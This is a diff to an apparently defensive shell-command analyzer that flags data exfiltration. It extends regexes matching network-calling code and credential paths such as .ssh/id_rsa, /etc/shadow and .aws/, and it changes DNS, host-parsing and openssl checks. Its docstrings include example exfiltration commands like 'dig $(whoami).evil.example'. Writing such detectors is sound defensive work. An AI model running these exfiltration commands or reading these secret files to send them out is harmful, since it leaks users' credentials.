@@ -44,10 +44,11 @@ WGET_DATA = ("--post-file", "--body-file", "--post-data", "--body-data", "--head
 _NET_CODE = re.compile(
     r"urlopen|urllib|requests\.|httpx|http\.client|HTTPConnection|socket|smtplib|ftplib|\bfetch\(|axios|"
     r"XMLHttpRequest|https?\.request|Net::HTTP|HTTP::Tiny|LWP|TCPSocket|fsockopen|curl_exec|\bcurl\b|\bwget\b|"
-    r"paramiko|boto3|dns\.resolver|getaddrinfo|gethostbyname"
+    r"paramiko|boto3|dns\.resolver|getaddrinfo|gethostbyname|\.request\(|require\(\s*['\"]https?['\"]|"
+    r"['\"]https?://|file_get_contents|http_build_query|Invoke-WebRequest|WebClient"
 )
 _SECRET_CODE = re.compile(
-    r"os\.environ|environ\b|getenv|process\.env|\bENV\[|%ENV|\$ENV\{|\.ssh/|id_rsa|id_ed25519|\.aws/|\.netrc|"
+    r"os\.environ|environ\b|getenv|process\.env|\bENV\b|%ENV|\$ENV\{|Deno\.env|System\.getenv|\.ssh/|id_rsa|id_ed25519|\.aws/|\.netrc|"
     r"\.git-credentials|/etc/(passwd|shadow|sudoers)|\.gnupg|\.kube/config|\.docker/config|/proc/self/environ|"
     r"\.env['\"]|\.pypirc|\.npmrc|\.config/gh"
 )
@@ -158,9 +159,9 @@ def check_upload(a: ShellAnalyzer, cmd: Cmd) -> None:
 
 
 def check_dns(a: ShellAnalyzer, cmd: Cmd) -> None:
-    """`dig $(whoami).evil.example`: a name built from a command's output carries data out."""
+    """`dig $(whoami).evil.example`, `dig $line.evil.example`: a name with a computed label carries data out."""
     built = [x for x in cmd.args if UNKNOWN in x and re.search(r"\x00[^/\s]*\.[A-Za-z]", x)]
-    if built and cmd.flows:
+    if built:
         _exfil(a, cmd, "data hidden in a DNS name (a name built from a command's output)")
 
 
@@ -190,14 +191,14 @@ def check_hosts(a: ShellAnalyzer, cmd: Cmd) -> None:
     for arg in cmd.args:
         if UNKNOWN in arg:
             continue
-        m = re.search(r"(?i)\b[a-z][a-z0-9+.-]*://([^/?#]*)", arg)
+        m = re.search(r"(?i)\b[a-z][a-z0-9+.-]*://([^/?#\s'\"()<>{}|^`,;]*)", arg)
         if not m:
             continue
         netloc = m.group(1)
-        userinfo, at, hostport = netloc.rpartition("@")
+        userinfo, at, hostport = netloc.replace("\\@", "@").rpartition("@")
         host = hostport if hostport.startswith("[") else hostport.rsplit(":", 1)[0] if ":" in hostport else hostport
         why = _odd_host(host)
-        if at and re.search(r"[A-Za-z0-9-]+\.[A-Za-z]{2,}", userinfo.partition(":")[0]):
+        if at and "." in userinfo.partition(":")[0]:
             why = why or f"credentials that look like a host ({userinfo}@)"
         if why:
             a.add("deny", "shell.odd_host", f"{cmd.name}: the address {arg!r} has {why}", cmd.subject)
@@ -216,7 +217,7 @@ def check_code(a: ShellAnalyzer, cmd: Cmd, code: str) -> None:
 def inspect(a: ShellAnalyzer, cmd: Cmd) -> None:
     """The checks of this module that apply to `cmd` before its own check runs."""
     check_hosts(a, cmd)
-    if cmd.name in UPLOADERS:
+    if cmd.name in UPLOADERS or (cmd.name == "openssl" and cmd.args[:1] in (["s_client"], ["s_server"])):
         check_upload(a, cmd)
     elif cmd.name in DNS_TOOLS:
         check_dns(a, cmd)
